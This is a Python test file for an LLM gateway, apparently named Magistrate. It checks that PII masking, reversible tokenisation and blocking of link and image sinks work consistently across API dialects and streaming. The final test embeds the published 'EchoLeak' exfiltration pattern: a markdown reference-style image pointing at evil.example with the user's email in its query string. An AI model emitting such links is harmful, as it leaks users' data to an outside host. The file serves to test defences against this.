"""Masks, tokens and sinks on the line itself: four dialects, all choices, text, thoughts, refusals and tool arguments."""

import asyncio
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.lines.world import World, policies
from tests.unit.classify.test_sinks import IMAGES, LINKS, STAY

from magistrate.adapters.upstreams.simulator import Simulator
from magistrate.classify.rules import RULES
from magistrate.classify.sinks import Sinks
from magistrate.classify.urls import HostList

from .clients import PATHS, assembled, question

calm = settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.too_slow])
ANSWER = 'action == Magistrate::Action::"answer"'
CALL = 'action == Magistrate::Action::"call"'


def bundle(*obligations):
    rules = ['@id("all") permit (principal, action, resource);']
    for number, (kind, labels, scope) in enumerate(obligations):
        rules.append(
            f'@id("o{number}") @obligation({kind}) @labels("{labels}") permit (principal, {scope}, resource);'
        )
    return policies("\n".join(rules))


MASKED = bundle(('"redact"', "*", ANSWER))
REVERSIBLE = bundle(('"tokenise") @method("reversible"', "pii,pci", CALL), ('"redact"', "sink", ANSWER))
WAYS = {
    "text": lambda text: "\n".join(f"say: {line}" for line in text.split("\n")),
    "thoughts": lambda text: "say: fine\n" + "\n".join(f"reason: {line}" for line in text.split("\n")),
    "refusal": lambda text: "\n".join(f"refuse: {line}" for line in text.split("\n")),
    "arguments": lambda text: f"call tool send {json.dumps({'to': text, 'deep': [{'also': text}]})}",
}

SAID = [(dialect, way) for dialect in PATHS for way in WAYS if (dialect, way) != ("gemini", "refusal")]
"""Gemini has no words for a refusal: it stops for a reason."""


def ask(dialect, text, *, policy, size=0, choices=1, sinks=()):
    world = World(upstream=Simulator(), bundle=policy, changes={"sinks": Sinks(HostList(sinks))})
    path, body = question(
        dialect, text + (f"\nchunk size: {size}" if size else ""), stream=bool(size), choices=choices
    )
    return world, asyncio.run(world.ask(path, body))


VALUES = [(rule.id, rule.good[0]) for rule in RULES if rule.good and "\r" not in rule.good[0]]


@pytest.mark.requirement("P3", "P6")
@pytest.mark.parametrize(("dialect", "way"), SAID)
@pytest.mark.parametrize("size", [1, 5, 16])
def test_every_rule_masks_in_a_stream_what_it_masks_in_the_whole(dialect, way, size):
    """Every rule of the always-on tier, every dialect, every kind of text: the two clients read the same."""
    for rule, good in VALUES:
        text = good.replace("«", "").replace("»", "")
        value = good.partition("«")[2].partition("»")[0]
        _, whole = ask(dialect, WAYS[way](text), policy=MASKED)
        _, stream = ask(dialect, WAYS[way](text), policy=MASKED, size=size)
        assert whole.status == stream.status == 200, rule
        assert assembled(dialect, stream) == assembled(dialect, whole), rule
        assert assembled(dialect, whole), rule
        assert value not in str(assembled(dialect, whole)), rule


@pytest.mark.requirement("P3", "P6")
@pytest.mark.parametrize("dialect", ["chat", "gemini"])
@calm
@given(size=st.integers(1, 40), choices=st.integers(2, 4))
def test_all_choices_are_masked_alike(dialect, size, choices):
    """They arrive interleaved; none leans on another."""
    text = WAYS["text"]("pay with 4111 1111 1111 1111 or DE89 3704 0044 0532 0130 00 today")
    _, whole = ask(dialect, text, policy=MASKED, choices=choices)
    _, stream = ask(dialect, text, policy=MASKED, choices=choices, size=size)
    held = assembled(dialect, stream)
    assert held == assembled(dialect, whole)
    assert set(held.values()) == {"pay with [CARD] or [IBAN] today"}
    assert len(held) == choices


@pytest.mark.requirement("P6", "G7")
@pytest.mark.parametrize(("dialect", "way"), [pair for pair in SAID if pair[1] != "arguments"])
@calm
@given(
    text=st.lists(
        st.sampled_from([text for text in (*LINKS, *IMAGES, *STAY) if text]), min_size=1, max_size=3
    ).map(" ".join),
    size=st.integers(1, 40),
)
def test_no_split_of_a_forbidden_target_reaches_the_client(dialect, way, text, size):
    """What stands around the target stays, and nothing in what the client holds leads away."""
    text = " ".join(text.replace("«", "").replace("»", "").split("\n"))
    _, whole = ask(dialect, WAYS[way](text), policy=MASKED, sinks=["ok.example", "*.cdn.example"])
    _, stream = ask(dialect, WAYS[way](text), policy=MASKED, sinks=["ok.example", "*.cdn.example"], size=size)
    assert stream.status == whole.status == 200
    held = assembled(dialect, stream)
    assert held
    assert held == assembled(dialect, whole)
    assert "evil.example" not in str(held)


@pytest.mark.requirement("P3", "P6")
@pytest.mark.parametrize(("dialect", "way"), SAID)
@calm
@given(size=st.integers(1, 40))
def test_tokens_are_put_back_in_every_dialect_but_not_in_thoughts(dialect, way, size):
    """What the client would hold without Magistrate, in a stream and whole; what the endpoint says holds tokens."""
    text = 'to "ada@analytical.org", card 4111 1111 1111 1111.'
    for stream_size in (0, size):
        world, reply = ask(dialect, WAYS[way](text), policy=REVERSIBLE, size=stream_size)
        assert reply.status == 200
        held = str(assembled(dialect, reply))
        assert ("ada@analytical.org" in held) is (way != "thoughts")
        assert ("EMAIL_" in held) is (way == "thoughts")
        assert b"ada@" not in world.evidence.body(1, "sent")
        assert b"ada@" not in world.evidence.body(1, "response")


@pytest.mark.requirement("G7")
@pytest.mark.parametrize("dialect", PATHS)
@pytest.mark.parametrize("size", [0, 3, 50])
def test_echoleak_ends_in_an_address_that_leads_nowhere(dialect, size):
    """The published attack: a reference-style image whose definition comes later and carries what the user said."""
    page = "Here you are.\n\n![logo][ref]\n\n[ref]: https://evil.example/p?d=ada%40analytical.org"
    _, reply = ask(dialect, WAYS["text"](page), policy=World(Simulator()).bundle, size=size)
    (said,) = (text for place, text in assembled(dialect, reply).items() if "text" in place)
    assert said == page.replace("https://evil.example/p?d=ada%40analytical.org", "about:blank#withheld")
